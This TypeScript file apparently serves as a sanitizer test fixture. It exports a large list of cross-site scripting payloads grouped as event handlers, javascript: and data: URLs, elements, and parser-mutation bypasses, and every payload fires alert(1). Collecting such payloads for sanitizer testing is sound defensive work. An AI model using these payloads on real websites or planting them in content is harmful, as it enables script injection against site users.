// What attackers put into HTML, a line each; every one calls alert(1) where it works. Gathered by the way they take in.

const handlers = String.raw`
<img src=x onerror=alert(1)>
<img src="/x.png" onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert(1) //
<IMG SRC=x OnErRoR=alert(1)>
<img src=x oneonerrorrror=alert(1)>
<img src="x" onerror = "alert(1)" alt="a">
<img src='x'onerror='alert(1)'>
<img src=x:alert(1) onerror=eval(src)>
<img src=x onerror="&#97;lert(1)">
<img src=x onerror=\u0061lert(1)>
<img srcset="x 1x" onerror=alert(1)>
<p onclick=alert(1)>a</p>
<p onmouseover="alert(1)">a</p>
<h2 onfocus=alert(1) tabindex=0 autofocus>a</h2>
<a href="/x" onclick="alert(1)">a</a>
<a autofocus href=/ onfocus=alert(1)>a</a>
<ul onanimationstart=alert(1) style="animation:x 1s"><li>a</ul>
<table onpointerenter=alert(1)><tr><td ontouchstart=alert(1)>a</td></tr></table>
<td background="javascript:alert(1)">a</td>
<blockquote oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>a</blockquote>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>a</a>
<html onmouseover=alert(1)>a
<details open ontoggle=alert(1)>a</details>
<div onbeforetoggle=alert(1) popover id=p>a</div><button popovertarget=p>b</button>
<marquee onstart=alert(1)>a</marquee>
<video onloadstart=alert(1)><source></video>
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>a</select>
<textarea autofocus onfocus=alert(1)>a</textarea>
<button onclick=alert(1) autofocus onfocus=alert(1)>a</button>
<form onsubmit=alert(1)><input type=submit></form>
<keygen autofocus onfocus=alert(1)>
<object data=x onerror=alert(1)></object>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)></frameset>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>a</button></form></dialog>
<x onclick=alert(1) contenteditable onfocusin=alert(1)>a</x>
<style onload=alert(1)></style>
<link rel=stylesheet href=x onerror=alert(1)>
<script onerror=alert(1) src=x></script>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<p/onclick="alert(1)"/>a
<p onclick&#61;alert(1)>a</p>
`

const addresses = String.raw`
<a href="javascript:alert(1)">a</a>
<a href=javascript:alert(1)>a</a>
<a href="JaVaScRiPt:alert(1)">a</a>
<a href=" javascript:alert(1)">a</a>
<a href="java&#9;script:alert(1)">a</a>
<a href="java&#10;script:alert(1)">a</a>
<a href="java&#x0D;script:alert(1)">a</a>
<a href="java&Tab;script&colon;alert(1)">a</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>
<a href="&#0000106avascript:alert(1)">a</a>
<a href="&#1;javascript:alert(1)">a</a>
<a href="&#x01;&#x1F;javascript:alert(1)">a</a>
<a href="javascript&NewLine;:alert(1)">a</a>
<a href="javascript:/*--></title></style></textarea></script>*/alert(1)">a</a>
<a href="javascript://%0aalert(1)">a</a>
<a href="javascript:%61lert(1)">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="data:text/html,<script>alert(1)</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="DATA:image/svg+xml,<svg onload=alert(1)>">a</a>
<a href="blob:https://example.com/x">a</a>
<a href="file:///etc/passwd">a</a>
<a href="view-source:javascript:alert(1)">a</a>
<a href="feed:javascript:alert(1)">a</a>
<a href="jar:javascript:alert(1)!/">a</a>
<a href="mailto:a@example.com" target="javascript:alert(1)" ping="javascript:alert(1)">a</a>
<a href="//example.com/x">a</a>
<a href="/\example.com">a</a>
<a href="\\example.com">a</a>
<a href="https:javascript:alert(1)">a</a>
<a href="javascript:alert(1)" href="/fine">a</a>
<a href="/fine" href="javascript:alert(1)">a</a>
<a xlink:href="javascript:alert(1)">a</a>
<a href="javascript:alert(1)"><img src="/x.png"></a>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:image/png;base64,AAAA" onload=alert(1)>
<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">
<image src="javascript:alert(1)">
<base href="javascript:alert(1)//"><a href="/x">a</a>
<form action="javascript:alert(1)"><button>a</button></form>
<button formaction="javascript:alert(1)" form=f>a</button><form id=f></form>
<isindex action="javascript:alert(1)" type=submit>
<iframe src="javascript:alert(1)"></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<blockquote cite="javascript:alert(1)">a</blockquote>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Set-Cookie" content="a=<script>alert(1)</script>">
<area shape=rect coords="0,0,9,9" href="javascript:alert(1)"><map name=x></map>
`

const elements = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=/x.js></SCRIPT>
<script/x>alert(1)</script>
<script>alert(1)//
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type=module>alert(1)</script>
<script type="text/plain">a</script><script>alert(1)</script >
<script><!-- </script><script>alert(1)</script>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a id=x><text y=20>a</text></a><animate href=#x attributeName=href values="javascript:alert(1)"></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><p onclick=alert(1)>a</title></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>
<math><a xlink:href="javascript:alert(1)">a</a></math>
<math href="javascript:alert(1)">a</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">a</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<template><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<noscript><img src=x onerror=alert(1)></noscript>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</noscript>
<plaintext><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">a</xmp>
<textarea><p title="</textarea><img src=x onerror=alert(1)>">a</textarea>
<title><p title="</title><img src=x onerror=alert(1)>">a</title>
<select><style></select><img src=x onerror=alert(1)></style>
<style>@import "javascript:alert(1)";</style>
<style>*{background:url("javascript:alert(1)")}</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<p style="background:url(javascript:alert(1))">a</p>
<p style="width:expression(alert(1))">a</p>
<p style="-moz-binding:url(x#y)">a</p>
<?xml-stylesheet href="javascript:alert(1)"?><p>a</p>
<?php echo "<script>alert(1)</script>" ?>
<![CDATA[<script>alert(1)</script>]]>
<!--><script>alert(1)</script>-->
<!--><img src=x onerror=alert(1)>
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<portal src="javascript:alert(1)"></portal>
<applet code="javascript:alert(1)"></applet>
<layer src="javascript:alert(1)"></layer>
<bgsound src="javascript:alert(1)">
`

const mutations =
  String.raw`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=x>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg><style><img src="</style><img src=x onerror=alert(1)>">
<svg></p><foreignobject><math><mi><style></foreignobject><img src=x onerror=alert(1)></style>
<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>
<p id="<img src=x onerror=alert(1)>">a</p>
<img alt="<x" title="/><img src=x onerror=alert(1)>" src="/x.png">
<img alt="` +
  '`' +
  String.raw`onerror=alert(1)" src="/x.png">
<img alt="' onerror=alert(1) '" src="/x.png">
<img alt='" onerror=alert(1) "' src="/x.png">
<a href="/x&quot; onclick=&quot;alert(1)">a</a>
<a href='/x" onclick="alert(1)'>a</a>
<a href="/x?a=<script>alert(1)</script>">a</a>
<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&lt<script>alert(1)</script>
<p>&lt;<b>img src=x onerror=alert(1)></b></p>
<img src=x one` +
  '\0' +
  String.raw`rror=alert(1)>
<scr` +
  '\0' +
  String.raw`ipt>alert(1)</script>
<a href="java` +
  '\0' +
  String.raw`script:alert(1)">a</a>
<img src=x` +
  '\f' +
  String.raw`onerror=alert(1)>
<img` +
  '\v' +
  String.raw`src=x onerror=alert(1)>
<a` +
  '\t' +
  String.raw`href="java` +
  '\t' +
  String.raw`script:alert(1)">a</a>
<ſcript>alert(1)</ſcript>
<ımg src=x onerror=alert(1)>
＜script＞alert(1)＜/script＞
<p><p><p></h2></table><img src=x onerror=alert(1)
<li><a href="javascript:alert(1)"><li>a</a>
<table><a href="javascript:alert(1)"><tr><td>a</table>
<table><caption><img src=x onerror=alert(1)></caption></table>
<h1><script>alert(1)</script>a</h1>
<b onclick=alert(1)>a</b><i onclick=alert(1)>b</i>
<th scope="col" onclick="alert(1)" colspan="2&quot; onclick=&quot;alert(1)">a</th>
<td colspan="1 onclick=alert(1)" rowspan='"><img src=x onerror=alert(1)>'>a</td>
<img width='1" onerror="alert(1)' height="1" src="/x.png">
<a rel='"><img src=x onerror=alert(1)>' href="https://example.com/">a</a>
<p __proto__="x" constructor="y" onclick=alert(1)>a</p>
<constructor onclick=alert(1)>a</constructor>
<__proto__ onclick=alert(1)>a</__proto__>
<a id=x name=cookie href="/x">a</a><form name=body><input name=innerHTML></form>
`

/** Payloads stand one a line; a line keeps its own spaces. */
export const xssPayloads: readonly string[] = [handlers, addresses, elements, mutations].flatMap((group) =>
  group.split('\n').filter(Boolean),
)
